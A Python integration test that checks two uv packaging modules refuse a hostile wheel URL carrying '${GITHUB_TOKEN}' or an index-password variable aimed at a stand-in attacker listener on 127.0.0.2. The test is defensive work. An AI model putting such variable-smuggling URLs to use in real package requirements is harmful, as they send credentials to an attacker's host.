"""A hostile fleet cache's wheel URL with the real uv (security review, install side, finding 1).

The review's experiment: a fake devpi listed the right wheel (right sha256) at
``http://127.0.0.2:<port>/${UV_INDEX_LLMFLEET_DEFAULT_PASSWORD}/vllm-...whl``; the URL became the engine's
requirement, uv expanded the variable, and the index password went to 127.0.0.2 (with ``${GITHUB_TOKEN}``,
the controller's token). Here the listener on 127.0.0.2 records every request: uv_fleet_lock and
uv_engine_env, run as processes with the real uv, an index with a password and GITHUB_TOKEN set, must
refuse the URL and 127.0.0.2 must hear nothing (before the fix, it got the secret in the path)."""

from __future__ import annotations

import http.server
import json
import os
import subprocess
import sys
import threading

import pytest

from tests.conftest import COLLECTIONS, REPO
from tests.integration.test_targets import system_python

UV = REPO / ".venv" / "bin" / "uv"
WHEEL = "vllm-0.20.0-cp38-abi3-manylinux_2_28_x86_64.whl"
INDEX_PASSWORD = "planted-index-password-41c7"
GITHUB_TOKEN = "ghp_planted-github-token-9d2e"

pytestmark = pytest.mark.integration


class Listener:
    """An HTTP server on ``host`` that records each request line and headers and answers 404."""

    def __init__(self, host):
        self.requests = []
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def answer(self):
                listener.requests.append("%s %s %s" % (self.command, self.path, dict(self.headers)))
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_HEAD = answer  # noqa: N815 - http.server's names

            def log_message(self, *_args):
                pass

        self.server = http.server.ThreadingHTTPServer((host, 0), Handler)
        self.url = "http://%s:%d" % (host, self.server.server_address[1])
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *_exc):
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(10)


def run(module, tmp_path, args):
    args_file = tmp_path / ("%s-args.json" % module)
    args_file.write_text(json.dumps({"ANSIBLE_MODULE_ARGS": args}))
    env = {k: v for k, v in os.environ.items() if not k.startswith("UV_")}
    env.update(PYTHONPATH=str(COLLECTIONS), GITHUB_TOKEN=GITHUB_TOKEN)
    proc = subprocess.run([sys.executable, str(REPO / "plugins" / "modules" / ("%s.py" % module)), str(args_file)],
                          capture_output=True, text=True, env=env, cwd=str(tmp_path), timeout=240, check=False)
    try:
        return json.loads(proc.stdout.strip().splitlines()[-1]), proc.stdout + proc.stderr
    except (ValueError, IndexError):
        raise AssertionError("the module printed no JSON result:\n" + proc.stdout + proc.stderr)


@pytest.mark.parametrize("variable", ["UV_INDEX_LLMFLEET_DEFAULT_PASSWORD", "GITHUB_TOKEN"])
@pytest.mark.parametrize("module", ["uv_fleet_lock", "uv_engine_env"])
def test_a_wheel_url_with_a_variable_sends_nothing_anywhere(tmp_path, module, variable):
    with Listener("127.0.0.1") as index, Listener("127.0.0.2") as hostile:
        wheel = {"url": "%s/${%s}/%s" % (hostile.url, variable, WHEEL), "sha256": "0" * 64}
        index_url = "http://alice:%s@%s/simple" % (INDEX_PASSWORD, index.url[len("http://"):])
        common = {"engine": "vllm", "version": "0.20.0", "wheel": wheel, "index_url": index_url,
                  "exclude_newer": "2026-06-11T12:00:00Z", "uv": str(UV), "cache_dir": str(tmp_path / "uv-cache"),
                  "timeout": 120}
        if module == "uv_fleet_lock":
            args = dict(common, dest=str(tmp_path / "locks" / "vllm.txt"), python_version="3.12",
                        python_platform="x86_64-manylinux_2_28")
        else:
            args = dict(common, path=str(tmp_path / "engines" / "vllm" / "0.20.0"), python=system_python(),
                        python_preference="only-system", gpu_check=False)
        result, output = run(module, tmp_path, args)
        heard = list(hostile.requests)
    assert result.get("failed") is True, result
    assert result["msg"].startswith("wheel.url %r cannot become a requirement line: it holds a '$'" % wheel["url"])
    assert heard == []
    for secret in (INDEX_PASSWORD, GITHUB_TOKEN):
        assert secret not in output
    assert not (tmp_path / "locks").exists() and not (tmp_path / "engines").exists()
